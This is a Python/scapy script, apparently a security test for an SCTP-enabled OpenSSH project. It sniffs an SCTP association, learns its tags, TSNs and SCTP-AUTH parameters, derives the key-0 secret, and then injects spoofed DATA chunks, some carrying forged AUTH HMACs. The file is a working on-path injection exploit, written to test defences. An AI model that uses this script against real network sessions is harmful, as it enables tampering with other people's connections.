#!/usr/bin/python3
# data-forge: an attacker on the path injects DATA into an association it
# watches (the seeds' attack T3), with scapy.
#
#   data-forge.py IFACE DPORT MODE...
#	sniff IFACE for an association set up to port DPORT: its INIT and
#	INIT ACK (tags, and the SCTP-AUTH parameters from which the kernel
#	derives the association key of key 0, the empty key: RFC 4895 6.1)
#	and the responder's DATA (its TSNs).  Then, for each MODE, send the
#	initiator a DATA chunk from the responder, unordered on stream 0,
#	with the TSN after the last one seen, holding INJECTED-BY-THE-PATH:
#	  plain   no AUTH chunk
#	  auth0   an AUTH chunk with key 0 and the right HMAC, as an
#	          attacker who saw the set-up can compute it
#	Waits DELAY seconds (env FORGE_DELAY, default 0) after the first
#	DATA before sending, and 2 s between modes.  Prints "sniffing",
#	"learned", then "sent MODE" for each; exits 1 if it saw no
#	association within 120 s.
#
# Copyright (c) 2026 The openssh-sctp authors.  BSD licence: see LICENCE.

import hashlib
import hmac
import os
import struct
import sys
import time

from scapy.all import IP, IPv6, Raw, conf, send, sniff
from scapy.layers.sctp import SCTP

conf.verb = 0
iface, dport = sys.argv[1], int(sys.argv[2])
modes = sys.argv[3:]
delay = float(os.environ.get("FORGE_DELAY", "0"))
st = {"tsn": None}


def ip_of(p):
    return p[IP] if IP in p else p[IPv6]


def chunks(raw):
    off = 0
    while off + 4 <= len(raw):
        ctype, flags, clen = struct.unpack("!BBH", raw[off:off + 4])
        if clen < 4:
            return
        yield ctype, flags, raw[off:off + clen]
        off += (clen + 3) & ~3


def auth_params(chunk):
    """RANDOM, CHUNKS and HMAC-ALGO TLVs of an INIT or INIT ACK."""
    found, off = {}, 20
    while off + 4 <= len(chunk):
        ptype, plen = struct.unpack("!HH", chunk[off:off + 4])
        if plen < 4:
            break
        if ptype in (0x8002, 0x8003, 0x8004):
            found[ptype] = chunk[off:off + plen]
        off += (plen + 3) & ~3
    return found


def vector(params):
    return params.get(0x8002, b"") + params.get(0x8003, b"") + \
        params.get(0x8004, b"")


def hmac_ids(params):
    v = params.get(0x8004, b"")[4:]
    return [struct.unpack("!H", v[i:i + 2])[0] for i in range(0, len(v), 2)]


def watch(p):
    if SCTP not in p:
        return False
    s = p[SCTP]
    raw = bytes(s.payload)
    for ctype, flags, c in chunks(raw):
        if ctype == 1 and s.dport == dport and "init" not in st:
            st["init"] = (ip_of(p).src, ip_of(p).dst, s.sport,
                          struct.unpack("!I", c[4:8])[0], auth_params(c))
        elif ctype == 2 and "init" in st and s.sport == dport:
            st["initack"] = (struct.unpack("!I", c[4:8])[0],
                             auth_params(c))
        elif ctype == 0x0f and "initack" in st and s.sport == dport and \
                "genuine" not in st:
            st["genuine"] = raw[raw.index(c):]
        elif ctype == 0 and "initack" in st and s.sport == dport and \
                os.environ.get("FORGE_DEBUG") and "dbg" not in st:
            st["dbg"] = 1
            print("genuine " + repr(p), flush=True)
        elif ctype == 0 and "initack" in st and s.sport == dport:
            tsn = struct.unpack("!I", c[4:8])[0]
            if st["tsn"] is None or tsn > st["tsn"]:
                st["tsn"] = tsn
            if "first" not in st:
                st["first"] = time.time()
    return "first" in st and time.time() - st["first"] >= delay


sniff(iface=iface, stop_filter=watch, timeout=120 + delay, store=0,
      started_callback=lambda: print("sniffing", flush=True))
if st["tsn"] is None:
    print("no association seen")
    sys.exit(1)
csrc, sdst, cport, ctag, cparams = st["init"]
stag, sparams = st["initack"]
print("learned client tag %08x, server tsn %d, auth %s" %
      (ctag, st["tsn"], "yes" if cparams and sparams else "no"), flush=True)
v1, v2 = vector(cparams), vector(sparams)
# Key 0 is the empty shared key; the smaller vector (as a number) first.
if int.from_bytes(v1, "big") < int.from_bytes(v2, "big"):
    secret = v1 + v2
else:
    secret = v2 + v1
# The receiver (the initiator) verifies with an algorithm of its list.
hid = 3 if 3 in hmac_ids(cparams) else 1
digest = hashlib.sha256 if hid == 3 else hashlib.sha1
hlen = digest().digest_size
if "genuine" in st:
    # The responder's own AUTH chunk under key 0, as a check of the above.
    g = st["genuine"]
    glen = struct.unpack("!H", g[2:4])[0]
    gid = struct.unpack("!H", g[6:8])[0]
    gd = hashlib.sha256 if gid == 3 else hashlib.sha1
    calc = hmac.new(secret, g[:8] + b"\0" * (glen - 8) + g[glen:],
                    gd).digest()
    print("check: the responder's HMAC (id %d) %s" %
          (gid, "matches" if calc == g[8:glen] else "differs"), flush=True)
net = IPv6 if ":" in csrc else IP
payload = b"INJECTED-BY-THE-PATH\n\n\n\n"	# 24 bytes: no padding
for i, mode in enumerate(modes):
    # Sniff again for the latest TSN, briefly.
    sniff(iface=iface, stop_filter=watch, timeout=0.5, store=0)
    # The next TSN: the sender must be idle then, or its own chunk comes
    # first.  (The receiver's SACK then acknowledges a TSN the sender has
    # not sent: Linux aborts the association when it sees that.)
    tsn = (st["tsn"] + 1) & 0xffffffff
    data = struct.pack("!BBHIHHI", 0, 0x07, 16 + len(payload), tsn, 0, 0,
                       0) + payload
    body = data
    if mode == "auth0":
        auth = struct.pack("!BBHHH", 0x0f, 0, 8 + hlen, 0, hid)
        mac = hmac.new(secret, auth + b"\0" * hlen + data, digest).digest()
        body = auth + mac + data
    pkt = (net(src=sdst, dst=csrc) / SCTP(sport=dport, dport=cport,
                                          tag=ctag) / Raw(body))
    if os.environ.get("FORGE_DEBUG"):
        print(repr(net(bytes(pkt))), flush=True)
    send(pkt)
    print("sent %s tsn %d" % (mode, tsn), flush=True)
    time.sleep(2)
